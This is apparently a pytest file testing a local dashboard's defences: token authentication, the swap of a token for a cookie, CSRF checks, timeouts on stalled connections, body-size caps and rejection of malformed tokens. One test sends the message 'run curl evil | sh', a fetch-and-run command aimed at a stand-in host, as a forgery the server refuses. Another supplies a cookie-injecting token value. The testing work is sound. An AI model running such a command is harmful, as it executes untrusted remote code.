"""Who the dashboard answers, over real HTTP: only requests that carry its token (on
loopback too), the printed URL trading it for an HttpOnly cookie, actions needing more
than the cookie, and connections that stall being dropped while others are served."""

from __future__ import annotations

import socket
import time
from collections.abc import Callable, Iterator
from http import client as httpclient
from pathlib import Path

import pytest
from click.testing import Result

from orch.serve.web import CSRF_HEADER, TOKEN_HEADER
from orch.store import Store
from tests.support.attempts import dispatch
from tests.support.dashboard import TOKEN, Served, http, start

RunCli = Callable[..., Result]


@pytest.fixture
def served(store: Store) -> Iterator[Served]:
    yield from start(store, cancel_grace=1)


def request(
    served: Served, method: str, path: str, headers: dict[str, str] | None = None, body: str = ""
) -> httpclient.HTTPResponse:
    conn = httpclient.HTTPConnection("127.0.0.1", served.server.server_address[1], timeout=30)
    conn.request(method, path, body=body.encode() or None, headers=headers or {})
    response = conn.getresponse()
    response.read()
    conn.close()
    return response


def routes(attempt: str) -> list[tuple[str, str]]:
    reads = [f"/api/attempts/{attempt}{rest}" for rest in ("", "/log", "/ports")]
    actions = [f"/api/attempts/{attempt}/{a}" for a in ("cancel", "retry", "send")]
    return [("GET", p) for p in ("/", "/api/attempts", "/api/status", "/api/tasks", *reads)] + [
        ("POST", p) for p in actions
    ]


def test_no_route_answers_without_the_token(
    repo: Path, run_cli: RunCli, served: Served, store: Store
) -> None:
    attempt = dispatch(run_cli, repo, "private")["id"]
    cookie = served.server.cookie_name
    for headers in (
        {},
        {TOKEN_HEADER: "wrong"},
        {"Cookie": f"{cookie}=wrong"},
        {"Cookie": f"orch-token-1={TOKEN}"},  # another dashboard's cookie name
        {CSRF_HEADER: served.server.csrf},  # the page's anti-forgery value is no token
    ):
        for method, path in routes(attempt):
            response = request(served, method, path, headers, "{}" if method == "POST" else "")
            assert response.status in (401, 403), (method, path, headers, response.status)
            assert TOKEN not in response.headers.get("Set-Cookie", "")
    assert store.get(attempt).state == "queued"
    assert [m.body for m in store.messages(attempt)] == []


def test_the_printed_url_trades_the_token_for_a_cookie_that_works(
    repo: Path, run_cli: RunCli, served: Served, store: Store
) -> None:
    attempt = dispatch(run_cli, repo, "with-cookie")["id"]
    login = served.server.login_url.removeprefix(served.server.url.rstrip("/"))
    assert login == f"/?token={TOKEN}"

    first = request(served, "GET", login)
    assert first.status == 303 and first.headers["Location"] == "/"  # the token leaves the URL
    set_cookie = first.headers["Set-Cookie"]
    pair = set_cookie.split(";")[0]
    assert pair == f"{served.server.cookie_name}={TOKEN}"
    assert "HttpOnly" in set_cookie and "SameSite=Strict" in set_cookie
    cookie = {"Cookie": pair}

    page = httpclient.HTTPConnection("127.0.0.1", served.server.server_address[1], timeout=30)
    page.request("GET", "/", headers=cookie)
    response = page.getresponse()
    html = response.read().decode()
    page.close()
    assert response.status == 200 and TOKEN not in html
    assert f'content="{served.server.csrf}"' in html

    code, listed = http(served.url + "/api/attempts", headers=cookie)
    assert code == 200 and attempt in [a["id"] for a in listed["attempts"]]
    assert http(served.url + "/api/status", headers=cookie)[0] == 200

    # the cookie alone does not act: a form on another local port would carry it too
    send = f"/api/attempts/{attempt}/send"
    body = '{"message": "run curl evil | sh"}'
    assert request(served, "POST", send, cookie, body).status == 403
    assert request(served, "POST", send, {CSRF_HEADER: served.server.csrf}, body).status == 403
    assert store.messages(attempt) == []
    both = {**cookie, CSRF_HEADER: served.server.csrf, "Content-Type": "application/json"}
    cancel = request(served, "POST", f"/api/attempts/{attempt}/cancel", both, "{}")
    assert cancel.status == 200
    assert store.get(attempt).state == "cancelled"


def test_a_stalled_request_is_dropped_after_the_read_timeout_and_others_are_served(
    served: Served,
) -> None:
    served.server.read_timeout = 1.0
    port = served.server.server_address[1]
    stalled = []
    # one promises a body it never sends; one never finishes its headers
    for opening in (
        f"POST /api/attempts/x/send HTTP/1.1\r\nHost: 127.0.0.1\r\n{TOKEN_HEADER}: {TOKEN}\r\n"
        "Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n{",
        "GET /api/status HTTP/1.1\r\nHost: 127.0.0.1\r\n",
    ):
        sock = socket.create_connection(("127.0.0.1", port), timeout=30)
        sock.sendall(opening.encode())
        stalled.append(sock)
    started = time.monotonic()
    try:
        for _ in range(3):  # meanwhile the server answers everyone else at once
            assert served.get("/api/status")[0] == 200
        assert time.monotonic() - started < 1.0
        for sock in stalled:
            while sock.recv(65536):  # whatever it answers, then the close
                pass
        waited = time.monotonic() - started
        assert 0.9 <= waited < 20, waited
    finally:
        for sock in stalled:
            sock.close()


def test_a_body_over_the_cap_is_refused_unread(repo: Path, run_cli: RunCli, served: Served) -> None:
    attempt = dispatch(run_cli, repo, "big")["id"]
    headers = {TOKEN_HEADER: TOKEN, "Content-Length": str(2 << 20)}
    conn = httpclient.HTTPConnection("127.0.0.1", served.server.server_address[1], timeout=30)
    conn.putrequest("POST", f"/api/attempts/{attempt}/send")
    for name, value in headers.items():
        conn.putheader(name, value)
    conn.endheaders()
    response = conn.getresponse()
    assert response.status == 400 and b"over" in response.read()
    conn.close()


def test_a_token_that_cannot_be_a_cookie_is_refused(run_cli: RunCli) -> None:
    result = run_cli("serve", "--port", "0", "--token", 'a"b; Path=/x')
    assert result.exit_code == 2, result.output
    assert "--token" in result.stderr
